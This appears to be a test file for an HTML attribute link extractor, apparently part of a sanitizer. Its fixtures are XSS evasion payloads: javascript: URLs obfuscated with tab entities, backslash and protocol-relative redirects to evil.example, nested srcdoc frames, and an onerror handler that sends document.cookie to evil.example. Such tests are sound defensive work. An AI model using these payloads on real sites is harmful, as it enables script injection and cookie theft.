import { describe, expect, it } from 'vitest';
import { attributeLinks } from './attribute-links.js';

describe('attributeLinks', () => {
  it('reads the URL attributes of every tag as a browser follows them', () => {
    expect(
      attributeLinks(
        '<a href="https://a.org/x">a</a> <img src=//b.org/p.png> <form action=\'/submit\'> <img srcset="//c.org/1.png 1x, d.png 2x"> <a ping="https://e.org/p f.org">',
      ),
    ).toEqual([
      'https://a.org/x',
      'https://b.org/p.png',
      '/submit',
      'https://c.org/1.png',
      'd.png',
      'https://e.org/p',
      'f.org',
    ]);
  });

  it('decodes references, trims the ends, drops tabs and line breaks and reads backslashes as slashes', () => {
    for (const [value, link] of [
      ['java&#9;script:alert(1)', 'javascript:alert(1)'],
      ['jav&#x09;ascript:alert(1)', 'javascript:alert(1)'],
      ['&#106;avascript&colon;alert(1)', 'javascript:alert(1)'],
      ['java&Tab;script:alert(1)', 'javascript:alert(1)'],
      ['  //evil.example/x', 'https://evil.example/x'],
      ['\\/evil.example/x', 'https://evil.example/x'],
      ['/\\evil.example/x', 'https://evil.example/x'],
      ['&#92;&#92;evil.example/x', 'https://evil.example/x'],
      ['/&#9;/evil.example/x', 'https://evil.example/x'],
      ['https:evil.example/x', 'https://evil.example/x'],
      ['HTTPS:\\\\evil.example\\x?q=a\\b', 'https://evil.example/x?q=a\\b'],
      ['mailto:a@b.org', 'mailto:a@b.org'],
    ])
      expect(attributeLinks(`<a href="${value}">x</a>`), value).toEqual([link]);
  });

  it("reads a refresh's URL", () => {
    expect(attributeLinks('<meta http-equiv="refresh" content="0; URL=\'//evil.example/x\'">')).toEqual([
      'https://evil.example/x',
    ]);
    expect(attributeLinks('<meta name="description" content="see //evil.example">')).toEqual([]);
  });

  it('reads no link in an empty value, a fragment, another attribute, or text that is no tag', () => {
    expect(
      attributeLinks('<a href="">x</a><a href="#top">y</a><a title="//evil.example" class=x>z</a>'),
    ).toEqual([]);
    expect(attributeLinks('a <b and c > d, x=//y, 3 < 4')).toEqual([]);
  });
});

describe('attributeLinks: documents and animations', () => {
  it("reads a frame's srcdoc as a document of its own, references decoded, four frames deep", () => {
    expect(attributeLinks('<iframe srcdoc="<img src=//evil.example/a.png>"></iframe>')).toEqual([
      'https://evil.example/a.png',
    ]);
    expect(
      attributeLinks('<iframe srcdoc="&lt;a href=&quot;java&amp;#9;script:x&quot;&gt;"></iframe>'),
    ).toEqual(['javascript:x']);
    const nested =
      '<iframe srcdoc="<iframe srcdoc=\'<iframe srcdoc=&quot;<img src=//evil.example/a.png>&quot;>\'>">';
    expect(attributeLinks(nested)).toEqual(['https://evil.example/a.png']);
    // Past four frames the document is read as one URL: no passage links it.
    let deep = '<img src=//evil.example/a.png>';
    for (let level = 0; level < 6; level++)
      deep = `<iframe srcdoc="${deep.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">`;
    expect(attributeLinks(deep)).toHaveLength(1);
    expect(attributeLinks(deep)[0]).toContain('srcdoc');
  });

  it("reads an SVG animation's values as URLs, whatever attribute it names", () => {
    expect(attributeLinks('<set attributeName="href" to="//evil.example/x"/>')).toEqual([
      'https://evil.example/x',
    ]);
    expect(
      attributeLinks(
        '<animate attributeName="xlink:href" from="a.png" by="b.png" values="javascript:x;//evil.example/y">',
      ),
    ).toEqual(['a.png', 'b.png', 'javascript:x', 'https://evil.example/y']);
    expect(attributeLinks('<img attributionsrc="https://evil.example/r https://evil.example/s">')).toEqual([
      'https://evil.example/r',
      'https://evil.example/s',
    ]);
  });
});

describe('attributeLinks: event handlers', () => {
  it('reads an event handler as the javascript: URL of its code', () => {
    expect(
      attributeLinks('<img src="https://a.org/x" onerror="location=`//evil.example/`+document.cookie">'),
    ).toEqual(['https://a.org/x', 'javascript:location=`//evil.example/`+document.cookie']);
    expect(attributeLinks('<svg onload=alert(1)>')).toEqual(['javascript:alert(1)']);
    expect(attributeLinks('<details open ONTOGGLE="al&#9;ert(1)">')).toEqual(['javascript:alert(1)']);
    expect(attributeLinks('<span one>x</span> <p title="onerror=x">')).toEqual([]);
  });
});
